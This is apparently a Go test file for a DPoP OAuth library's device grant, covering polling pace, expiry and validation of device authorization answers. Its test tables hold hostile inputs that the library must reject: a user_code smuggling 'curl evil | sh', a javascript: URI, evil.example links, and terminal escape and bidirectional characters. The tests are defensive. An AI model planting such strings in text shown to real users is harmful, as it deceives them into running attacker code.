package dpop_test

import (
	"bytes"
	"context"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/dpopkit/dpop"
	"github.com/dpopkit/dpop/dpoptest"
	"golang.org/x/oauth2"
)

// handlerTransport serves requests with an http.Handler in memory, so that
// a synctest bubble's fake clock runs the polling loop.
type handlerTransport struct{ h http.Handler }

func (t handlerTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	if r.Body != nil {
		defer r.Body.Close()
	}
	w := httptest.NewRecorder()
	t.h.ServeHTTP(w, r)
	return w.Result(), nil
}

// devicePoll is one answer of the scripted token endpoint.
type devicePoll struct {
	status     int
	body       string
	retryAfter string
}

// TestDeviceAccessTokenPacing checks the waits between polls against RFC
// 8628 §3.5 on a fake clock: the interval, +5 s for this and every later
// poll after slow_down, at least a Retry-After, and a new proof each time.
func TestDeviceAccessTokenPacing(t *testing.T) {
	script := []devicePoll{
		{400, `{"error":"authorization_pending"}`, ""},
		{400, `{"error":"slow_down"}`, ""},
		{503, `busy`, "30"},
		{400, `{"error":"authorization_pending"}`, ""},
		{200, `{"access_token":"at","token_type":"DPoP","expires_in":60,"refresh_token":"rt"}`, ""},
	}
	// Waits before each poll: interval 2 s; pending; slow_down → 7 s; a
	// 503 with Retry-After 30; pending → back to 7 s.
	wantWaits := []time.Duration{2 * time.Second, 2 * time.Second, 7 * time.Second, 30 * time.Second, 7 * time.Second}
	wantCodes := []string{"", "authorization_pending", "slow_down", "", "authorization_pending"}

	synctest.Test(t, func(t *testing.T) {
		var (
			v     dpoptest.Verifier
			mu    sync.Mutex // guards polls
			polls []time.Time
		)
		start := time.Now()
		h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if _, err := v.Verify(r.Header.Get("DPoP"), r.Method, "http://as.test/token", ""); err != nil {
				t.Errorf("poll %d: proof: %v", len(polls), err)
			}
			r.ParseForm()
			if r.PostForm.Get("device_code") != "dc" || r.PostForm.Get("client_id") != "cli" || r.PostForm.Get("resource") != "https://rs.test" {
				t.Errorf("poll form %v; want device_code dc, client_id cli, resource from the option", r.PostForm)
			}
			mu.Lock()
			n := len(polls)
			polls = append(polls, time.Now())
			mu.Unlock()
			p := script[min(n, len(script)-1)]
			if p.retryAfter != "" {
				w.Header().Set("Retry-After", p.retryAfter)
			}
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(p.status)
			io.WriteString(w, p.body)
		})
		ctx := context.WithValue(context.Background(), oauth2.HTTPClient, &http.Client{Transport: handlerTransport{h}})
		var statuses []dpop.DeviceStatus
		cfg := &dpop.Config{
			OAuth2:         &oauth2.Config{ClientID: "cli", Endpoint: oauth2.Endpoint{TokenURL: "http://as.test/token"}},
			Signer:         newSigner(t),
			DeviceProgress: func(s dpop.DeviceStatus) { statuses = append(statuses, s) },
		}
		da := &oauth2.DeviceAuthResponse{DeviceCode: "dc", UserCode: "ABCD-EFGH", Interval: 2, Expiry: start.Add(10 * time.Minute)}
		tok, err := cfg.DeviceAccessToken(ctx, da, oauth2.SetAuthURLParam("resource", "https://rs.test"))
		if err != nil {
			t.Fatalf("DeviceAccessToken = %v", err)
		}
		if tok.AccessToken != "at" || tok.RefreshToken != "rt" || !tok.Expiry.Equal(time.Now().Add(time.Minute)) {
			t.Errorf("token %+v; want at, rt, expiring in 60 s", tok)
		}
		if len(polls) != len(wantWaits) {
			t.Fatalf("%d polls; want %d", len(polls), len(wantWaits))
		}
		last := start
		for i, p := range polls {
			if got := p.Sub(last); got != wantWaits[i] {
				t.Errorf("wait before poll %d = %v; want %v", i+1, got, wantWaits[i])
			}
			last = p
		}
		if len(statuses) != len(wantCodes) {
			t.Fatalf("%d progress reports; want %d", len(statuses), len(wantCodes))
		}
		for i, s := range statuses {
			if s.Polls != i || s.ErrorCode != wantCodes[i] || s.Wait != wantWaits[i] || s.Auth != da {
				t.Errorf("report %d = {Polls %d, ErrorCode %q, Wait %v}; want {%d, %q, %v} and the device authorization", i, s.Polls, s.ErrorCode, s.Wait, i, wantCodes[i], wantWaits[i])
			}
		}
	})
}

// TestDeviceAccessTokenEnds checks that polling stops at the device code's
// expiry, at ctx's end, and at a final error answer.
func TestDeviceAccessTokenEnds(t *testing.T) {
	for _, tc := range []struct {
		name     string
		answer   string
		ctxAfter time.Duration // cancel ctx after this long; 0: never
		wantErr  func(error) bool
	}{
		{"expiry", `{"error":"authorization_pending"}`, 0,
			func(err error) bool { return errors.Is(err, context.DeadlineExceeded) }},
		{"ctx", `{"error":"authorization_pending"}`, 12 * time.Second,
			func(err error) bool { return errors.Is(err, context.Canceled) }},
		{"access_denied", `{"error":"access_denied","error_description":"no"}`, 0,
			func(err error) bool {
				re, ok := errors.AsType[*oauth2.RetrieveError](err)
				return ok && re.ErrorCode == "access_denied"
			}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					w.WriteHeader(http.StatusBadRequest)
					io.WriteString(w, tc.answer)
				})
				ctx, cancel := context.WithCancel(context.WithValue(context.Background(), oauth2.HTTPClient, &http.Client{Transport: handlerTransport{h}}))
				defer cancel()
				if tc.ctxAfter > 0 {
					time.AfterFunc(tc.ctxAfter, cancel)
				}
				cfg := &dpop.Config{OAuth2: &oauth2.Config{ClientID: "cli", Endpoint: oauth2.Endpoint{TokenURL: "http://as.test/token"}}, Signer: newSigner(t)}
				da := &oauth2.DeviceAuthResponse{DeviceCode: "dc", Interval: 5, Expiry: time.Now().Add(time.Minute)}
				_, err := cfg.DeviceAccessToken(ctx, da)
				if !tc.wantErr(err) || !strings.HasPrefix(err.Error(), "dpop: ") {
					t.Errorf("DeviceAccessToken = %v", err)
				}
			})
		})
	}
}

// TestDeviceGrant runs the device grant against dpoptest, which approves
// the device while the client waits before its first poll. The waits take
// no real time: they run on a fake clock (onFakeClock), which dpoptest
// reads too (bubbleClock).
func TestDeviceGrant(t *testing.T) {
	clock := newBubbleClock()
	srv := newServer(t, &dpoptest.Config{RequireNonce: true, Now: clock.Now})
	cfg := publicConfig(srv, newSigner(t))
	var tok *oauth2.Token
	err := onFakeClock(t, context.Background(), func(ctx context.Context) error {
		clock.sync()
		ctx, cancel := context.WithTimeout(ctx, 30*time.Second)
		defer cancel()
		da, err := cfg.DeviceAuth(ctx)
		if err != nil {
			return err
		}
		approved := make(chan error, 1)
		go func() {
			time.Sleep(200 * time.Millisecond)
			approved <- srv.ApproveDevice(da.UserCode)
		}()
		tok, err = cfg.DeviceAccessToken(ctx, da)
		return errors.Join(err, <-approved)
	})
	if err != nil {
		t.Fatal(err)
	}
	if tok.TokenType != "DPoP" {
		t.Errorf("token_type %q; want DPoP", tok.TokenType)
	}
	for _, r := range srv.Requests() {
		if r.Kind == "token" && r.Proof == nil && r.Error != "use_dpop_nonce" {
			t.Errorf("device token poll without a valid proof: %+v", r)
		}
	}
}

// TestDeviceProgressDpoptest runs the grant against dpoptest, approving
// the device from the progress callback as a user would after reading the
// code. The waits between polls run on a fake clock, as in TestDeviceGrant.
func TestDeviceProgressDpoptest(t *testing.T) {
	clock := newBubbleClock()
	srv := newServer(t, &dpoptest.Config{RequireNonce: true, DeviceInterval: -1, Now: clock.Now})
	cfg := publicConfig(srv, newSigner(t))
	var reports []dpop.DeviceStatus
	var approveErr error
	cfg.DeviceProgress = func(s dpop.DeviceStatus) {
		reports = append(reports, s)
		if s.Polls == 1 {
			approveErr = srv.ApproveDevice(s.Auth.UserCode)
		}
	}
	var tok *oauth2.Token
	err := onFakeClock(t, context.Background(), func(ctx context.Context) error {
		clock.sync()
		ctx, cancel := context.WithTimeout(ctx, 30*time.Second)
		defer cancel()
		da, err := cfg.DeviceAuth(ctx)
		if err != nil {
			return err
		}
		tok, err = cfg.DeviceAccessToken(ctx, da)
		return err
	})
	if err != nil || approveErr != nil {
		t.Fatal(err, approveErr)
	}
	if tok.TokenType != "DPoP" || tok.RefreshToken == "" {
		t.Errorf("token type %q, refresh token set %v; want DPoP with a refresh token", tok.TokenType, tok.RefreshToken != "")
	}
	if len(reports) != 2 || reports[0].Polls != 0 || reports[1].ErrorCode != "authorization_pending" ||
		!strings.Contains(reports[0].Auth.VerificationURIComplete, "user_code=") {
		t.Errorf("reports %+v; want one before the first poll (with a complete URI), one authorization_pending", reports)
	}
	n := 0
	for _, r := range srv.Requests() {
		if r.Kind == "token" && r.Proof != nil {
			n++
		}
	}
	if n < 2 {
		t.Errorf("%d token requests with a valid proof; want one per poll (2)", n)
	}
}

// TestDeviceAuthContext: the device authorization request ends with its
// context, as every other request of the grants does, while the server
// stalls.
func TestDeviceAuthContext(t *testing.T) {
	stall := make(chan struct{})
	as := newHostile(t, false, func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-stall:
		case <-r.Context().Done():
		}
	})
	t.Cleanup(func() { close(stall) }) // before the server closes
	cfg := &dpop.Config{OAuth2: &oauth2.Config{ClientID: "cli", Endpoint: oauth2.Endpoint{
		TokenURL: as.URL + "/token", DeviceAuthURL: as.URL + "/device"}}, Signer: newSigner(t)}
	ctx, cancel := context.WithTimeout(context.Background(), 300*time.Millisecond)
	defer cancel()
	errc := make(chan error, 1)
	go func() {
		_, err := cfg.DeviceAuth(ctx)
		errc <- err
	}()
	select {
	case err := <-errc:
		if !errors.Is(err, context.DeadlineExceeded) || !strings.HasPrefix(err.Error(), "dpop: ") {
			t.Errorf("DeviceAuth = %v; want context.DeadlineExceeded", err)
		}
	case <-time.After(maxWait):
		t.Fatalf("DeviceAuth did not return within %v of its 300 ms deadline", maxWait)
	}
}

// deviceAuthAnswer runs DeviceAuth against an in-memory device
// authorization endpoint that answers status and body.
func deviceAuthAnswer(t *testing.T, status int, body string) (*oauth2.DeviceAuthResponse, error) {
	t.Helper()
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		io.WriteString(w, body)
	})
	cfg := &dpop.Config{OAuth2: &oauth2.Config{ClientID: "cli", Endpoint: oauth2.Endpoint{
		TokenURL: "https://as.example/token", DeviceAuthURL: "https://as.example/device"}}, Signer: newSigner(t)}
	return cfg.DeviceAuth(withClient(&http.Client{Transport: handlerTransport{h}}))
}

// TestDeviceAuthAnswer checks what DeviceAuth accepts of a device
// authorization answer (RFC 8628 §3.2): the required members, an
// expires_in that bounds the polling, and text a person will read (the
// verification URIs and the user code) that is https (or loopback http)
// and printable, without control or bidirectional characters.
func TestDeviceAuthAnswer(t *testing.T) {
	const good = `"device_code":"dc","user_code":"WDJB-MJHT","verification_uri":"https://as.example/device"`
	for _, tt := range []struct {
		name, body string
		errHas     string // "" for success
	}{
		{"minimal", `{` + good + `,"expires_in":900}`, ""},
		{"complete", `{` + good + `,"verification_uri_complete":"https://as.example/device?user_code=WDJB-MJHT","expires_in":900,"interval":7}`, ""},
		{"verification_url (Google's spelling)", `{"device_code":"dc","user_code":"WDJB-MJHT","verification_url":"https://as.example/device","expires_in":900}`, ""},
		{"loopback http", `{"device_code":"dc","user_code":"WDJB-MJHT","verification_uri":"http://127.0.0.1:8080/device","expires_in":900}`, ""},
		{"no expires_in", `{` + good + `}`, "expires_in"},
		{"zero expires_in", `{` + good + `,"expires_in":0}`, "expires_in"},
		{"negative expires_in", `{` + good + `,"expires_in":-5}`, "expires_in"},
		{"fractional expires_in", `{` + good + `,"expires_in":1.5}`, "expires_in"},
		{"negative interval", `{` + good + `,"expires_in":900,"interval":-1}`, "interval"},
		{"no device_code", `{"user_code":"WDJB-MJHT","verification_uri":"https://as.example/device","expires_in":900}`, "device_code"},
		{"no user_code", `{"device_code":"dc","verification_uri":"https://as.example/device","expires_in":900}`, "user_code"},
		{"no verification_uri", `{"device_code":"dc","user_code":"WDJB-MJHT","expires_in":900}`, "verification_uri"},
		{"http verification_uri", `{"device_code":"dc","user_code":"WDJB-MJHT","verification_uri":"http://as.example/device","expires_in":900}`, "not https"},
		{"javascript verification_uri", `{"device_code":"dc","user_code":"WDJB-MJHT","verification_uri":"javascript:alert(1)","expires_in":900}`, "verification_uri"},
		{"relative verification_uri", `{"device_code":"dc","user_code":"WDJB-MJHT","verification_uri":"/device","expires_in":900}`, "verification_uri"},
		{"userinfo verification_uri", `{"device_code":"dc","user_code":"WDJB-MJHT","verification_uri":"https://as.example@evil.example/device","expires_in":900}`, "userinfo"},
		{"bidi verification_uri", `{"device_code":"dc","user_code":"WDJB-MJHT","verification_uri":"https://as.example/\u202eecived","expires_in":900}`, "bidirectional"},
		{"http verification_uri_complete", `{` + good + `,"verification_uri_complete":"http://evil.example/?user_code=WDJB-MJHT","expires_in":900}`, "verification_uri_complete"},
		{"escape in user_code", `{"device_code":"dc","user_code":"\u001b[2J\u001b[HWDJB","verification_uri":"https://as.example/device","expires_in":900}`, "control"},
		{"newline in user_code", `{"device_code":"dc","user_code":"WDJB\nRun: curl evil | sh","verification_uri":"https://as.example/device","expires_in":900}`, "control"},
		{"bidi in user_code", `{"device_code":"dc","user_code":"WDJB\u202eTHJM","verification_uri":"https://as.example/device","expires_in":900}`, "bidirectional"},
		{"long user_code", `{"device_code":"dc","user_code":"` + strings.Repeat("W", 10000) + `","verification_uri":"https://as.example/device","expires_in":900}`, "longer than"},
		{"long verification_uri", `{"device_code":"dc","user_code":"WDJB","verification_uri":"https://as.example/` + strings.Repeat("d", 10000) + `","expires_in":900}`, "longer than"},
		{"not JSON", `<html>`, "JSON"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			start := time.Now()
			da, err := deviceAuthAnswer(t, http.StatusOK, tt.body)
			if tt.errHas != "" {
				if err == nil || !strings.Contains(err.Error(), tt.errHas) || !strings.HasPrefix(err.Error(), "dpop: device authorization: ") {
					t.Fatalf("DeviceAuth = %+v, %v; want an error naming %q", da, err, tt.errHas)
				}
				if strings.ContainsAny(err.Error(), "\n\x1b\u202e") || len(err.Error()) > 1000 {
					t.Errorf("error text %q: want it escaped and short", err)
				}
				return
			}
			if err != nil {
				t.Fatalf("DeviceAuth = %v", err)
			}
			if da.DeviceCode != "dc" || da.UserCode != "WDJB-MJHT" || da.VerificationURI == "" {
				t.Errorf("DeviceAuth = %+v", da)
			}
			if d := da.Expiry.Sub(start); d < 899*time.Second || d > 901*time.Second {
				t.Errorf("Expiry in %v; want 900 s", d)
			}
		})
	}
	t.Run("error answer", func(t *testing.T) {
		_, err := deviceAuthAnswer(t, http.StatusBadRequest, `{"error":"invalid_client"}`)
		var te *dpop.TokenError
		if !errors.As(err, &te) || te.Op != "device authorization" || te.ErrorCode != "invalid_client" {
			t.Errorf("DeviceAuth = %v; want a *TokenError of device authorization, invalid_client", err)
		}
	})
	t.Run("expires_in beyond the bound", func(t *testing.T) {
		da, err := deviceAuthAnswer(t, http.StatusOK, `{`+good+`,"expires_in":9223372036854775807}`)
		if err != nil {
			t.Fatal(err)
		}
		if d := time.Until(da.Expiry); d <= 0 || d > 2*time.Hour {
			t.Errorf("Expiry in %v; want it bounded, in the future", d)
		}
	})
}

// TestDeviceAccessTokenBounds: polling a device authorization that has no
// expiry (made elsewhere: x/oauth2 accepts an answer without expires_in)
// still ends, an hour after it started, not when the caller gives up; and
// an interval above the hour cap is capped, not replaced by the default 5
// seconds.
func TestDeviceAccessTokenBounds(t *testing.T) {
	pending := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusBadRequest)
		io.WriteString(w, `{"error":"authorization_pending"}`)
	})
	newCfg := func(t *testing.T, progress func(dpop.DeviceStatus)) *dpop.Config {
		return &dpop.Config{OAuth2: &oauth2.Config{ClientID: "cli", Endpoint: oauth2.Endpoint{TokenURL: "http://as.test/token"}},
			Signer: newSigner(t), DeviceProgress: progress}
	}
	t.Run("no expiry", func(t *testing.T) {
		synctest.Test(t, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(withClient(&http.Client{Transport: handlerTransport{pending}}), 48*time.Hour)
			defer cancel()
			start := time.Now()
			_, err := newCfg(t, nil).DeviceAccessToken(ctx, &oauth2.DeviceAuthResponse{DeviceCode: "dc", Interval: 5})
			if err == nil || !strings.HasPrefix(err.Error(), "dpop: ") {
				t.Errorf("DeviceAccessToken = %v; want an error", err)
			}
			if d := time.Since(start); d > time.Hour {
				t.Errorf("polled for %v; want at most an hour", d)
			}
		})
	})
	t.Run("interval above the cap", func(t *testing.T) {
		synctest.Test(t, func(t *testing.T) {
			var first time.Duration
			cfg := newCfg(t, func(s dpop.DeviceStatus) {
				if s.Polls == 0 {
					first = s.Wait
				}
			})
			ctx := withClient(&http.Client{Transport: handlerTransport{pending}})
			cfg.DeviceAccessToken(ctx, &oauth2.DeviceAuthResponse{DeviceCode: "dc", Interval: 7200, Expiry: time.Now().Add(3 * time.Hour)})
			if first != time.Hour {
				t.Errorf("first wait %v; want the cap, an hour", first)
			}
		})
	})
	t.Run("text shown to a person", func(t *testing.T) {
		synctest.Test(t, func(t *testing.T) {
			var reports int
			cfg := newCfg(t, func(dpop.DeviceStatus) { reports++ })
			ctx := withClient(&http.Client{Transport: handlerTransport{pending}})
			_, err := cfg.DeviceAccessToken(ctx, &oauth2.DeviceAuthResponse{DeviceCode: "dc", UserCode: "AB\x1b]8;;https://evil.example\x07CD",
				VerificationURI: "https://as.example/device", Expiry: time.Now().Add(time.Minute)})
			if err == nil || !strings.Contains(err.Error(), "user_code") || reports != 0 {
				t.Errorf("DeviceAccessToken = %v after %d progress reports; want an error naming user_code before the first", err, reports)
			}
		})
	})
}

// FuzzDeviceAuth serves arbitrary device authorization answers to
// DeviceAuth: no panic; an answer it accepts has what RFC 8628 §3.2
// requires, a bounded expiry, and text that is safe to show a person;
// an error's text is prefixed, escaped and short.
func FuzzDeviceAuth(f *testing.F) {
	f.Add(200, []byte(`{"device_code":"dc","user_code":"WDJB-MJHT","verification_uri":"https://as.example/device","verification_uri_complete":"https://as.example/device?user_code=WDJB-MJHT","expires_in":900,"interval":5}`))
	f.Add(200, []byte(`{"device_code":"dc","user_code":"WDJB","verification_url":"http://[::1]:8080/d","expires_in":1e3}`))
	f.Add(200, []byte(`{"device_code":"dc","user_code":"\u202eWDJB","verification_uri":"https://u@as.example/","expires_in":"900","interval":null}`))
	f.Add(200, []byte(`{"device_code":"dc","user_code":"W","verification_uri":"https://as.example/","expires_in":99999999999999999999}`))
	f.Add(400, []byte(`{"error":"invalid_client","error_description":"\u001b[31mno"}`))
	f.Add(201, []byte(`null`))
	s := newSigner(f)
	f.Fuzz(func(t *testing.T, status int, body []byte) {
		status = 100 + (status%900+900)%900
		ctx := withClient(&http.Client{Transport: roundTripFunc(func(r *http.Request) (*http.Response, error) {
			r.Body.Close()
			return &http.Response{StatusCode: status, Header: http.Header{"Content-Type": {"application/json"}},
				Body: io.NopCloser(bytes.NewReader(body)), Request: r}, nil
		})})
		cfg := &dpop.Config{OAuth2: &oauth2.Config{ClientID: "c", Endpoint: oauth2.Endpoint{
			TokenURL: "https://as.example/token", DeviceAuthURL: "https://as.example/device"}}, Signer: s}
		start := time.Now()
		da, err := cfg.DeviceAuth(ctx)
		if err != nil {
			msg := err.Error()
			if !strings.HasPrefix(msg, "dpop: ") || len(msg) > 2000 || strings.IndexFunc(msg, func(r rune) bool { return !unicode.IsPrint(r) }) >= 0 {
				t.Fatalf("error text %q: want it prefixed, short and printable", msg)
			}
			return
		}
		if status < 200 || status > 299 || da.DeviceCode == "" || da.UserCode == "" || da.VerificationURI == "" || da.Interval < 0 {
			t.Fatalf("status %d: accepted %+v", status, da)
		}
		if !da.Expiry.After(start) || da.Expiry.After(time.Now().Add(time.Hour)) {
			t.Fatalf("accepted Expiry %v, %v from now; want within the hour", da.Expiry, time.Until(da.Expiry))
		}
		for _, shown := range []string{da.UserCode, da.VerificationURI, da.VerificationURIComplete} {
			if !utf8.ValidString(shown) || strings.IndexFunc(shown, func(r rune) bool { return !unicode.IsPrint(r) }) >= 0 || len(shown) > 2048 {
				t.Fatalf("accepted %q for a person to read", shown)
			}
		}
		for _, raw := range []string{da.VerificationURI, da.VerificationURIComplete} {
			if raw == "" {
				continue
			}
			u, err := url.Parse(raw)
			if err != nil || u.User != nil || u.Host == "" {
				t.Fatalf("accepted URI %q", raw)
			}
			host := u.Hostname()
			switch s := strings.ToLower(u.Scheme); {
			case s == "https":
			case s == "http" && (strings.EqualFold(host, "localhost") || strings.HasPrefix(host, "127.") || host == "::1"):
			default:
				t.Fatalf("accepted URI %q: want https, or http on loopback", raw)
			}
		}
	})
}
